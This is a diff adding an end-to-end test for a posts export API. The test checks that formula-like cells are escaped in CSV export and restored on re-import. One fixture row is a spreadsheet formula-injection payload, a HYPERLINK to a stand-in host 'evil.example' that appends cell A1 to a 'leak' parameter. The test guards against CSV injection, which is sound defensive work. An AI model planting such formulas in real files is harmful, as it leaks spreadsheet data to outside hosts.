@@ -97,6 +97,49 @@ describe('GET /api/posts/export (e2e)', () => {
     });
   });
 
+  it('CSV: escapes cells a spreadsheet would run as formulas, and imports them back exactly', async () => {
+    const author = await t.api.createUser();
+    const formulas: PostRow[] = [
+      ['=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '=1+1'],
+      ['+SUM(1,2)', '-2+3'],
+      ['@SUM(A1:A2)', '\tindented'],
+      ["'quoted", "''twice"],
+      ['\rcarriage', "'=already escaped by hand"],
+      ['plain = safe', 'a-b@c'],
+    ];
+    for (const [title, body] of formulas) {
+      await t.api.post('/api/posts', { title, body }, { token: author.token });
+    }
+    const exported = await t.api.get(`/api/posts/export?format=csv&authorId=${author.id}`);
+    const records = parse(exported.text, { columns: true }) as Record<string, string>[];
+    expect(records.map((record) => [record.title, record.body])).toEqual([
+      [`'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`, "'=1+1"],
+      ["'+SUM(1,2)", "'-2+3"],
+      ["'@SUM(A1:A2)", "'\tindented"],
+      ["''quoted", "'''twice"],
+      ["'\rcarriage", "''=already escaped by hand"],
+      ['plain = safe', 'a-b@c'],
+    ]);
+    const ndjson = await t.api.get(`/api/posts/export?format=ndjson&authorId=${author.id}`);
+    expect(
+      ndjson.text
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line).title),
+    ).toEqual(formulas.map(([title]) => title));
+
+    const other = await t.api.createUser();
+    expect((await importCsv(t.api, other.token, exported.text)).body).toEqual({
+      imported: 6,
+      failed: 0,
+      errors: [],
+    });
+    expect(await storedPosts(dataSource, other.id)).toEqual({
+      count: 6,
+      digest: rowsDigest(formulas),
+    });
+  });
+
   // The whole table: on the shared server database that is every post of every run so far.
   it('without authorId: every post once, in id order', async () => {
     const response = await fetch(new URL('/api/posts/export', t.url));
